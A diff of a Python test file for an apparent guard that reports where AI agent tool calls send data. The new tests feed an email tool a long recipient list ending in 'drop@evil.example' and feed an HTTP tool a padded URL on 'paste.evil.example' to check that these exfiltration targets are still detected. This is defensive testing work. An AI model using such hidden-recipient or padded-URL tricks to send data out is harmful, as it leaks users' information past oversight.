@@ -8,8 +8,10 @@ from guards._call.destinations import (
     FOREIGN,
     KINDS,
     LOCAL,
+    MORE,
     NAMED,
     OWN_REMOTE,
+    PLACES,
     TRUSTED,
     UNKNOWN,
     Known,
@@ -52,3 +54,19 @@ def test_destinations_of_a_call():
     assert destinations(event, Call(event, settings())) == ["a@b.example", "c@d.example", "e@f.example"]
     event = Event("PreToolUse", "s", tool="Bash", input={"command": "curl https://a.example/x"})
     assert destinations(event, Call(event, settings())) == ["a.example/x"]
+
+
+@pytest.mark.parametrize("count", [999, 1000, 1001, 5000])
+def test_no_recipient_is_forgotten(count):
+    to = [*(f"a{n}@corp.example" for n in range(count - 1)), "drop@evil.example"]
+    for given in (to, ",".join(to), {"to": to}):
+        event = Event("PreToolUse", "s", tool="mcp__mail__send_email", input={"to": given, "body": "x"})
+        found = destinations(event, Call(event, settings()))
+        assert ("drop@evil.example" in found) is (count <= PLACES) and (MORE in found) is (count > PLACES)
+
+
+@pytest.mark.parametrize("size", [1900, 2000, 2100, 90_000])
+def test_a_long_address_leads_where_its_beginning_says(size):
+    address = "https://paste.evil.example/new?" + "a" * (size - 31)
+    event = Event("PreToolUse", "s", tool="mcp__http__post_request", input={"url": address, "body": "x"})
+    assert destinations(event, Call(event, settings())) == ["paste.evil.example/new"]
